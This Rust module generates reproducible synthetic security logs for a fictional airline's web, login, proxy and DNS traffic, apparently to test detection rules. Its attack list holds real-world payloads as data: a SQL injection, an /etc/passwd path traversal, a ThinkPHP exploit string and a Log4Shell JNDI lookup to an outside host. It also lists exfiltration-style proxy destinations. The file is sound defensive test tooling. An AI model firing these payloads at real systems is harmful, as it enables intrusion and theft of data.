//! A deterministic generator of realistic event lines (JSON, ~300 bytes):
//! web access logs of the group's sites with a trickle of attacks, customer
//! logins with credential-stuffing bursts, proxy logs and DNS queries. The
//! benchmarks and tests use it; the same seed gives the same lines.
//!
//! Field names are the ones the sources send: W3C names for web and proxy
//! logs (as SigmaHQ's rules expect them), ECS-like names for the portals.

use chrono::{DateTime, Duration, SecondsFormat, Utc};

/// Which source a line imitates.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Web,
    Login,
    Proxy,
    Dns,
}

/// SplitMix64: small, fast, reproducible.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n.max(1) as u64) as usize
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }

    fn chance(&mut self, per_mille: usize) -> bool {
        self.below(1000) < per_mille
    }
}

const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15",
    "KumojiAir/7.2.0 (Android 15; ja_JP)",
];
const PAGES: &[&str] = &[
    "/",
    "/ja/booking/search",
    "/ja/mileage/login",
    "/ja/mileage/summary",
    "/en/flights/status",
    "/ja/checkin",
    "/static/app.js",
    "/api/v2/fares",
];
const QUERIES: &[&str] = &[
    "-",
    "lang=ja",
    "from=HND&to=CTS&date=2026-12-24&adult=1",
    "flight=KJ123&date=2026-11-28",
    "page=2&sort=price",
];
/// Attack requests as they appear in real access logs.
const ATTACKS: &[(&str, &str, &str)] = &[
    (
        "/ja/booking/search",
        "from=HND' UNION SELECT password FROM members--",
        "sqlmap/1.8.2#stable (https://sqlmap.org)",
    ),
    (
        "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
        "-",
        "Mozilla/5.0 zgrab/0.x",
    ),
    (
        "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
        "cmd=upload",
        "python-requests/2.32.3",
    ),
    (
        "/index.php",
        "s=/index/\\think\\app/invokefunction",
        "curl/8.9.1",
    ),
    (
        "/ja/checkin",
        "q=${jndi:ldap://198.51.100.66/a}",
        "Mozilla/5.0",
    ),
];
const SITES: &[&str] = &[
    "www.kumoji-air.example",
    "mileage.kumoji-air.example",
    "booking.kumoji-air.example",
];
const PROXY_HOSTS: &[&str] = &[
    "www.google.com",
    "login.microsoftonline.com",
    "outlook.office365.com",
    "update.kumoji-its.example",
    "cdn.jsdelivr.net",
    "slack.com",
];
const BAD_PROXY: &[(&str, &str, &str)] = &[
    ("pastebin.com", "/raw/Xk2pL9qz", "Mozilla/5.0"),
    (
        "api.telegram.org",
        "/bot123456:AAE/sendDocument",
        "python-requests/2.31",
    ),
    (
        "invoice-kumoji.duckdns.org",
        "/download/請求書.zip",
        "Microsoft-CryptoAPI/10.0",
    ),
];
const DOMAINS: &[&str] = &[
    "www.kumoji-air.example",
    "mail.kumoji-hd.example",
    "teams.microsoft.com",
    "time.windows.com",
    "ocsp.digicert.com",
];

/// Lines of traffic in event time order, starting at `start`.
#[derive(Debug, Clone)]
pub struct Traffic {
    rng: Rng,
    now: DateTime<Utc>,
    /// Lines of a credential-stuffing burst still to come.
    burst: usize,
    burst_ip: String,
    mix: [usize; 4],
}

impl Traffic {
    /// A mix of all four kinds: 55 % web, 15 % each logins, proxy, DNS.
    pub fn new(seed: u64, start: DateTime<Utc>) -> Traffic {
        Traffic::with_mix(seed, start, [55, 15, 15, 15])
    }

    /// Only customer logins (with stuffing bursts).
    pub fn logins(seed: u64, start: DateTime<Utc>) -> Traffic {
        Traffic::with_mix(seed, start, [0, 100, 0, 0])
    }

    /// Percentages of web, login, proxy and DNS lines.
    pub fn with_mix(seed: u64, start: DateTime<Utc>, mix: [usize; 4]) -> Traffic {
        Traffic {
            rng: Rng::new(seed),
            now: start,
            burst: 0,
            burst_ip: String::new(),
            mix,
        }
    }

    fn kind(&mut self) -> Kind {
        let total: usize = self.mix.iter().sum();
        let mut roll = self.rng.below(total);
        for (kind, share) in [Kind::Web, Kind::Login, Kind::Proxy, Kind::Dns]
            .into_iter()
            .zip(self.mix)
        {
            if roll < share {
                return kind;
            }
            roll -= share;
        }
        Kind::Web
    }

    fn time(&mut self) -> String {
        self.now += Duration::milliseconds(self.rng.below(40) as i64);
        self.now.to_rfc3339_opts(SecondsFormat::Millis, true)
    }

    fn client_ip(&mut self) -> String {
        let r = self.rng.next_u64();
        format!(
            "{}.{}.{}.{}",
            [133, 153, 202, 126, 60][(r % 5) as usize],
            (r >> 8) % 256,
            (r >> 16) % 256,
            1 + (r >> 24) % 254
        )
    }

    /// An address inside the group's offices.
    fn office_ip(&mut self) -> String {
        format!(
            "10.{}.{}.{}",
            self.rng.below(8),
            self.rng.below(256),
            1 + self.rng.below(254)
        )
    }

    pub fn line(&mut self) -> (Kind, String) {
        let kind = if self.burst > 0 {
            Kind::Login
        } else {
            self.kind()
        };
        let line = match kind {
            Kind::Web => self.web(),
            Kind::Login => self.login(),
            Kind::Proxy => self.proxy(),
            Kind::Dns => self.dns(),
        };
        (kind, line)
    }

    /// A browser or app user agent: a few families, many versions (as in
    /// real logs: hundreds of distinct strings, a handful dominating).
    fn agent(&mut self) -> String {
        let r = self.rng.below(100);
        let v = self.rng.below(12);
        let build = self.rng.below(200);
        if r < 45 {
            format!(
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.{}.{} Safari/537.36",
                128 + v,
                6000 + build,
                self.rng.below(150)
            )
        } else if r < 75 {
            format!(
                "Mozilla/5.0 (iPhone; CPU iPhone OS 18_{v} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.{v} Mobile/15E148 Safari/604.1"
            )
        } else if r < 90 {
            format!(
                "KumojiAir/7.{v}.{} (Android {}; ja_JP)",
                build % 10,
                12 + v % 4
            )
        } else {
            self.rng.pick(AGENTS).to_owned()
        }
    }

    /// A page and its query string, with the values real requests carry.
    fn request(&mut self) -> (String, String) {
        const AIRPORTS: &[&str] = &[
            "HND", "NRT", "KIX", "ITM", "CTS", "FUK", "OKA", "NGO", "SDJ", "KOJ",
        ];
        match self.rng.below(10) {
            0..=2 => (
                "/ja/booking/search".into(),
                format!(
                    "from={}&to={}&date=2026-12-{:02}&adult={}",
                    self.rng.pick(AIRPORTS),
                    self.rng.pick(AIRPORTS),
                    1 + self.rng.below(31),
                    1 + self.rng.below(4)
                ),
            ),
            3 => (
                format!("/ja/booking/confirm/{:06X}", self.rng.below(0xFF_FFFF)),
                format!("sid={:016x}", self.rng.next_u64()),
            ),
            4 => (
                "/en/flights/status".into(),
                format!(
                    "flight=KJ{}&date=2026-11-{:02}",
                    100 + self.rng.below(900),
                    1 + self.rng.below(30)
                ),
            ),
            5 => (
                format!("/static/app.{:08x}.js", self.rng.below(16)),
                "-".into(),
            ),
            _ => (self.rng.pick(PAGES).into(), self.rng.pick(QUERIES).into()),
        }
    }

    fn web(&mut self) -> String {
        let t = self.time();
        let ip = self.client_ip();
        let site = self.rng.pick(SITES);
        let (stem, query, agent) = if self.rng.chance(5) {
            let (s, q, a) = ATTACKS[self.rng.below(ATTACKS.len())];
            (s.to_owned(), q.to_owned(), a.to_owned())
        } else {
            let (s, q) = self.request();
            (s, q, self.agent())
        };
        let status = [200, 200, 200, 200, 304, 302, 404, 500][self.rng.below(8)];
        format!(
            r#"{{"@timestamp":"{t}","c-ip":"{ip}","cs-method":"{}","cs-host":"{site}","cs-uri-stem":"{}","cs-uri-query":"{}","sc-status":{status},"sc-bytes":{},"c-useragent":"{}"}}"#,
            if self.rng.chance(150) { "POST" } else { "GET" },
            json_escape(&stem),
            json_escape(&query),
            200 + self.rng.below(90_000),
            json_escape(&agent)
        )
    }

    fn login(&mut self) -> String {
        if self.burst == 0 && self.rng.chance(4) {
            self.burst = 40 + self.rng.below(200);
            self.burst_ip = format!("203.0.113.{}", 1 + self.rng.below(254));
        }
        let t = self.time();
        let (ip, member, outcome) = if self.burst > 0 {
            self.burst -= 1;
            let outcome = if self.rng.chance(20) {
                "success"
            } else {
                "failure"
            };
            (
                self.burst_ip.clone(),
                format!("JM{:08}", self.rng.below(100_000_000)),
                outcome,
            )
        } else {
            let outcome = if self.rng.chance(80) {
                "failure"
            } else {
                "success"
            };
            (
                self.client_ip(),
                format!("JM{:08}", self.rng.below(2_000_000)),
                outcome,
            )
        };
        format!(
            r#"{{"@timestamp":"{t}","event":{{"dataset":"customer.login","category":"authentication","outcome":"{outcome}"}},"source":{{"ip":"{ip}"}},"user":{{"name":"{member}"}},"user_agent":{{"original":"{}"}},"url":{{"path":"/ja/mileage/login"}}}}"#,
            json_escape(&self.agent())
        )
    }

    fn proxy(&mut self) -> String {
        let t = self.time();
        let ip = self.office_ip();
        let (host, path, agent) = if self.rng.chance(10) {
            let (h, p, a) = BAD_PROXY[self.rng.below(BAD_PROXY.len())];
            (h, p.to_owned(), a.to_owned())
        } else {
            let path = format!("/{:x}", self.rng.next_u64() % 0xFFFF_FFFF);
            (self.rng.pick(PROXY_HOSTS), path, self.agent())
        };
        format!(
            r#"{{"@timestamp":"{t}","c-ip":"{ip}","cs-method":"GET","cs-host":"{host}","c-uri":"https://{host}{}","r-dns":"{host}","sc-status":200,"cs-bytes":{},"c-useragent":"{}","cs-username":"KUMOJI\\u{:05}"}}"#,
            json_escape(&path),
            300 + self.rng.below(2_000),
            json_escape(&agent),
            self.rng.below(20_000)
        )
    }

    fn dns(&mut self) -> String {
        let t = self.time();
        let ip = self.office_ip();
        let query = if self.rng.chance(5) {
            "invoice-kumoji.duckdns.org"
        } else {
            self.rng.pick(DOMAINS)
        };
        format!(
            r#"{{"@timestamp":"{t}","src_ip":"{ip}","query":"{query}","record_type":"A","answer":"192.0.2.{}","rcode":"NOERROR","host":{{"name":"dns01.kumoji-its.example"}},"event":{{"dataset":"dns.query"}}}}"#,
            1 + self.rng.below(254)
        )
    }
}

impl Iterator for Traffic {
    type Item = String;

    fn next(&mut self) -> Option<String> {
        Some(self.line().1)
    }
}

fn json_escape(s: &str) -> String {
    serde_json::to_string(s)
        .map(|q| q[1..q.len() - 1].to_owned())
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use chrono::TimeZone;

    use super::*;

    #[test]
    fn lines_are_json_of_about_300_bytes_and_repeatable() {
        let start = Utc
            .with_ymd_and_hms(2026, 11, 28, 0, 0, 0)
            .single()
            .expect("valid");
        let a: Vec<String> = Traffic::new(7, start).take(2_000).collect();
        let b: Vec<String> = Traffic::new(7, start).take(2_000).collect();
        assert_eq!(a, b);
        for line in &a {
            let v: serde_json::Value = serde_json::from_str(line).expect(line);
            assert!(v.is_object());
        }
        let avg = a.iter().map(String::len).sum::<usize>() / a.len();
        assert!((220..=380).contains(&avg), "average {avg} bytes");
    }
}
